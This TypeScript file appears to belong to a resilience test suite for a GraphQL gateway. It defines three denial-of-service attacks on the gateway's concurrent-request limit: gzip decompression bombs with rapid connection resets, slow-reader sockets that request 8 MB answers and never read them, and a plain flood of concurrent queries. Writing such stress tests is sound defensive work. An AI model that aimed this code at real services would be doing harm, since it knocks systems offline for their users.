/**
 * Attacks on the limit of concurrent requests. A client starts requests and disconnects, reads no answers, or sends too
 * many requests.
 */
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { Attack, GraphQLRequest, Strike } from './attack.ts';
import type { PersonName } from './surroundings.ts';

const AT_ONCE = 20;

/** A request whose answer has 8 MB: 500 rows with 28 aliases of 570 letters each. */
export const largeAnswer: GraphQLRequest = {
  query: `{objects(first:500){nodes{${Array.from({ length: 28 }, (_, i) => `${'a'.repeat(570)}${i}:kind`).join(' ')}}}}`,
};

export const places: readonly Attack[] = [
  {
    name: 'reset-uploads',
    title:
      '1 600 POSTs of 1.2 KB of gzip that inflate to 1 MB, each reset after 0 to 25 ms, by somebody without any right',
    needs: {},
    async run(strike) {
      const body = gzipSync(JSON.stringify({ query: '{viewer{user}}', filler: 'a'.repeat(990_000) }));
      const request = Buffer.concat([
        Buffer.from(headersOf(strike, 'trudy', body, 'content-encoding: gzip\r\n')),
        body,
      ]);
      const all = strike.many(1_600);
      for (let sent = 0; sent < all && !strike.isOver; sent += AT_ONCE) {
        // The time of decompression varies with the gateway's load, so the attack resets connections after several
        // delays.
        const unit = 1 + ((sent / AT_ONCE) % 5);
        await Promise.all(Array.from({ length: AT_ONCE }, (_, i) => sendAndReset(strike, request, (i % 6) * unit)));
      }
    },
  },
  {
    name: 'slow-readers',
    title: 'more requests than one caller has places, for answers of 8 MB that nobody reads',
    needs: {},
    async run(strike) {
      const request = requestOf(strike, 'mallory', JSON.stringify(largeAnswer));
      const sockets = await Promise.all(Array.from({ length: strike.many(140) }, () => sendAndStay(strike, request)));
      while (!strike.isOver) await delay(50);
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: 'plain-flood',
    title: '270 plain lists at once, each connection again as soon as it is answered',
    needs: {},
    async run(strike) {
      await strike.keepAsking('mallory', strike.many(270), () => ({
        query: '{objects(first:50){nodes{id name kind status message}}}',
      }));
    },
  },
];

export function requestOf(strike: Strike, person: PersonName, text: string, headers = ''): Buffer {
  const body = Buffer.from(text);
  return Buffer.concat([Buffer.from(headersOf(strike, person, body, headers)), body]);
}

function headersOf({ target }: Strike, person: PersonName, body: Buffer, more = ''): string {
  const { host } = new URL(target.url);
  return `POST /graphql HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${target.tokens[person]}\r\ncontent-type: application/json\r\n${more}content-length: ${body.length}\r\n\r\n`;
}

async function sendAndReset(strike: Strike, request: Buffer, afterMs: number): Promise<void> {
  const socket = await connected(strike);
  socket.write(request);
  await delay(afterMs);
  socket.resetAndDestroy();
  strike.count('reset');
}

/** Sends the request and does not read the answer. */
export async function sendAndStay(strike: Strike, request: Buffer) {
  const socket = await connected(strike);
  socket.pause();
  socket.write(request);
  strike.count('not read');
  return socket;
}

async function connected({ target }: Strike) {
  const { hostname, port } = new URL(target.url);
  const socket = connect({ host: hostname, port: Number(port) });
  // The gateway may refuse or reset the connection. This is a normal result of an attack.
  socket.on('error', () => socket.destroy());
  await new Promise<void>(resolve => socket.once('connect', resolve).once('close', () => resolve()));
  return socket;
}
